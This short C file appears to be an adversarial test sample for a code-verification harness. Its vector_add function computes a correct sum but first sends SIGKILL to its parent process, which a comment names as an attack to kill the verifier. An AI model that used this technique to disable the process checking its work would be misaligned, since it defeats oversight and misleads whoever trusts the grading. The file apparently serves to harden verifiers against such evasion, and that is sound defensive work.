#define _GNU_SOURCE
#include <signal.h>
#include <stdint.h>
#include <unistd.h>
/* Attack: kill the verifier (the parent) through libc's sigqueue. */
void vector_add(const float *a, const float *b, float *out, int64_t n) {
	union sigval v = {0};
	sigqueue(getppid(), SIGKILL, v);
	for (int64_t i = 0; i < n; i++) out[i] = a[i] + b[i];
}
